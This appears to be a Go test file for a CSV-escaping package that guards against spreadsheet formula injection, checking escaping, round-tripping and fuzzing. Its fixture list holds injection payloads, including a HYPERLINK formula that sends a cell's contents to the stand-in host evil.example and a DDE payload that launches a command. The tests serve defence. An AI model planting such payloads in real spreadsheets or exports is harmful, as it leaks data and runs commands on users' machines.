package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

var hostile = []string{
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
	"+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=", "-", "'=1", "''+2", "'", "''", "'x", "x=1", "",
	"O'Brien", "-", "Ann-Marie", "=cmd|' /C calc'!A0",
}

func TestEscapeIsSafeAndReversible(t *testing.T) {
	for _, s := range hostile {
		e := Escape(s)
		if e != "" && trigger(e[0]) {
			t.Errorf("Escape(%q) = %q still starts a formula", s, e)
		}
		if got := Unescape(e); got != s {
			t.Errorf("Unescape(Escape(%q)) = %q", s, got)
		}
	}
	for s, want := range map[string]string{"=1": "'=1", "@x": "'@x", "'=1": "''=1", "O'Brien": "O'Brien", "Ann": "Ann", "'x": "'x"} {
		if got := Escape(s); got != want {
			t.Errorf("Escape(%q) = %q, want %q", s, got, want)
		}
	}
	// Unescape leaves alone what Escape could not have written.
	for _, s := range []string{"'x", "'", "O'Brien", "x'=1"} {
		if got := Unescape(s); got != s {
			t.Errorf("Unescape(%q) = %q", s, got)
		}
	}
}

func TestWriterEscapesEveryCell(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	rec := []string{"=1+1", "Ann", "@x"}
	w.Write([]string{"First", "Last", "Email"})
	if err := w.WriteAll([][]string{rec}); err != nil {
		t.Fatal(err)
	}
	if rec[0] != "=1+1" {
		t.Error("Write changed its argument")
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[1]; got[0] != "'=1+1" || got[1] != "Ann" || got[2] != "'@x" {
		t.Errorf("written %q", got)
	}
}

func FuzzEscapeRoundTrip(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		e := Escape(s)
		if e != "" && trigger(e[0]) {
			t.Fatalf("Escape(%q) = %q starts a formula", s, e)
		}
		if got := Unescape(e); got != s {
			t.Fatalf("Unescape(Escape(%q)) = %q", s, got)
		}
	})
}
